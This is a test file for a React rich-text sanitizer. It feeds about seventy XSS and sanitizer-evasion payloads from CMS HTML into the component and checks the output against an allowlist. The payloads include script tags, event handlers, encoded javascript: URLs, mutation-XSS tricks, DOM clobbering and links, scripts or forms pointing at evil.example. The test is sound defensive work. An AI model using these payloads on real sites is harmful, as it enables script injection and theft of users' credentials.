/** Hostile HTML from a CMS: nothing of it runs, leaves its place, or is another tree in browsers than for React. */
import { expect, test } from '@rstest/core';
import fc from 'fast-check';
import { type DefaultTreeAdapterTypes, parseFragment, serialize } from 'parse5';
import { renderToString } from 'react-dom/server';
import { MemoryRouter } from 'react-router-dom';
import { RichText } from './RichText.tsx';

type Node = DefaultTreeAdapterTypes.Node;

const rendered = (html: string): string =>
  renderToString(
    <MemoryRouter>
      <RichText html={html} />
    </MemoryRouter>,
  );

/** Attacks, after OWASP's list of filter evasions and known mutations of sanitizers. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/random>alert(1)</script\t\n>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" width=1 height=1 onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1) width=1 height=1>',
  '<img src=//evil.example/spy.png width=1 height=1>',
  '<img src="/\\evil.example/spy.png" width=1 height=1>',
  '<img src="/en?a=1#.png" srcset="https://evil.example/spy.png 2x" width=1 height=1>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>" width=1 height=1>',
  '<body onload=alert(1) background=javascript:alert(1)>text',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="JaVaScRiPt:alert(1)">link</a>',
  '<a href="java\nscript:alert(1)">link</a>',
  '<a href="java&#x09;script:alert(1)">link</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">link</a>',
  '<a href="javascript&colon;alert(1)">link</a>',
  '<a href=" &#14; javascript:alert(1)">link</a>',
  '<a href="\u0001javascript:alert(1)">link</a>',
  '<a href="\u00a0javascript:alert(1)">link</a>',
  '<a href="data:text/html,<script>alert(1)</script>">link</a>',
  '<a href="vbscript:msgbox(1)">link</a>',
  '<a href="blob:https://x/1">link</a>',
  '<a href="//evil.example">link</a>',
  '<a href="/\\evil.example">link</a>',
  '<a href="/\t/evil.example">link</a>',
  '<a href="https://bank.example@evil.example">link</a>',
  '<a href="https:/\\evil.example">link</a>',
  '<a href="#main" target="_top" rel="opener" ping="https://evil.example">link</a>',
  '<a href="/en" onclick=alert(1) onmouseover="alert(1)" style="position:fixed;inset:0">link</a>',
  '<div style="background:url(javascript:alert(1))">text</div>',
  '<p style="position:fixed;inset:0" class="button" id="site" name="body">text</p>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example>',
  '<iframe src=javascript:alert(1)></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=x.swf></object><embed src=x.swf><applet code=x>text</applet>',
  '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">click</math>',
  '<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>Log in</button></form>',
  '<form id=x></form><button form=x formaction=javascript:alert(1)>x</button><textarea>x</textarea><select><option>x</select>',
  '<form name=body><input name=getElementById><img name=cookie></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>',
  '<details open ontoggle=alert(1)><summary>more</summary>text</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>text</marquee><blink>text</blink>',
  '<div data-fragment="cart" data-hole="0" data-remote="blog" data-waiting><p data-color=red>text</p></div>',
  '</div></main></body></html><h1>Hostile</h1><!--',
  '</p></div><div id=site><footer>fake</footer>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!doctype html>',
  '<title><script>alert(1)</script></title><textarea></textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>',
  '<x-button is=x-y autofocus tabindex=0 contenteditable accesskey=a>text</x-button>',
  '<table><a href="/en">one<table><a href="/fr">two',
  '<p><table><tr>text<td><p>a<td>b</table>after',
  '<b><p>one<i>two</b>three</i><p>four',
  '<ul><p>one<li>two<div>three<li>four</ul><li>five',
  '<a href="/en"><h2>title</h2><p>text<a href="/fr">inner</a></a>',
  '<h2>one<h3>two</h2><p>three</h3>',
  '<pre>\n\nline</pre><p>\u0000\ud800&#0;&#xD800;&#13;text\r\n</p>',
  '<__proto__ constructor=1 __proto__=2>text</__proto__><constructor>text</constructor>',
];

const elements = new Set(
  (
    'a abbr b bdi blockquote br caption cite code dd del dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img ins kbd li ' +
    'mark ol p pre q s samp small span strong sub sup table tbody td tfoot th thead time tr u ul var wbr'
  ).split(' '),
);

const attributes = new Set(
  'alt class colspan datetime decoding dir height href hreflang lang loading rel rowspan scope src start target title width'.split(
    ' ',
  ),
);

/** What the site's own policy lets an address be. */
const addresses = /^(?:\/(?![/\\])|https?:\/\/[^@\\]+$|mailto:|tel:)/;

/** Every element of a tree. */
function* elementsIn(node: Node): Generator<DefaultTreeAdapterTypes.Element> {
  if ('tagName' in node) yield node;
  if ('childNodes' in node) for (const child of node.childNodes) yield* elementsIn(child);
}

/** What isn't in the list, of what a browser makes of the HTML. */
const foreign = (html: string): readonly string[] =>
  [...elementsIn(parseFragment(html))].flatMap(({ tagName, attrs }) => [
    ...(elements.has(tagName) ? [] : [tagName]),
    ...attrs.filter(({ name }) => !attributes.has(name)).map(({ name }) => `${tagName} ${name}`),
    ...attrs
      .filter(({ name, value }) => /^(?:href|src)$/.test(name) && !addresses.test(value))
      .map(({ value }) => value),
  ]);

/** The tags of HTML, in their order. */
const tagsOf = (html: string): readonly string[] => html.match(/<\/?[a-z]\w*/g) ?? [];

function expectHarmless(html: string): void {
  const shown = rendered(html);
  expect(foreign(shown), html).toEqual([]);
  // Otherwise pages wouldn't hydrate, or the text would end an element around it.
  const read = `<main>${shown}</main>`;
  expect(tagsOf(serialize(parseFragment(read))), html).toEqual(tagsOf(read));
}

test.each(attacks)('nothing runs, and the tree is the same for React and for browsers: %s', expectHarmless);

test('whatever is combined, the same holds', () => {
  const parts = attacks.flatMap((attack) => attack.split(/(?=<)/));
  const tags = [...elements].flatMap((name) => [`<${name}>`, `</${name}>`, `<${name} href="/en" width=1>`]);
  const html = fc.array(fc.constantFrom(...parts, ...tags, ...tags, 'text', ' ', '\n'), { maxLength: 14 });
  fc.assert(
    fc.property(html, (some) => expectHarmless(some.join(''))),
    { seed: 22, numRuns: 500 },
  );
});

test.each(['b', 'blockquote', 'ul><li', 'table><tr><td', 'a href="/en"', 'unknown'])(
  'what is nested without end ends somewhere: %s',
  (tag) => expect(rendered(`<p>before</p>${`<${tag}>`.repeat(20_000)}deep`)).toContain('before'),
);
